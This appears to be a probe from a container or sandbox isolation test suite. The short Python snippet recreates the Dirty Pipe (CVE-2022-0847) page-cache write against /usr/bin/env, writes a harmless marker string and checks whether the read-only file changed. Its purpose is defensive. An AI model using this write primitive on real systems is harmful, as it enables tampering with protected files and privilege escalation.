# tries: writes into the page cache of a file of the image through a pipe that was spliced from it
# stopped by: read_only, user_namespace
# like: CVE-2022-0847

path = "/usr/bin/env"
before = read(path, 64)
file = os.open(path, os.O_RDONLY)
out, into = os.pipe()
size = 65536
os.write(into, bytes(size))
os.read(out, size)
offset = 1
os.splice(file, into, 1, offset_src=offset)
os.write(into, b"FUMEHOOD")
if read(path, 64) != before:
    got("wrote", path)
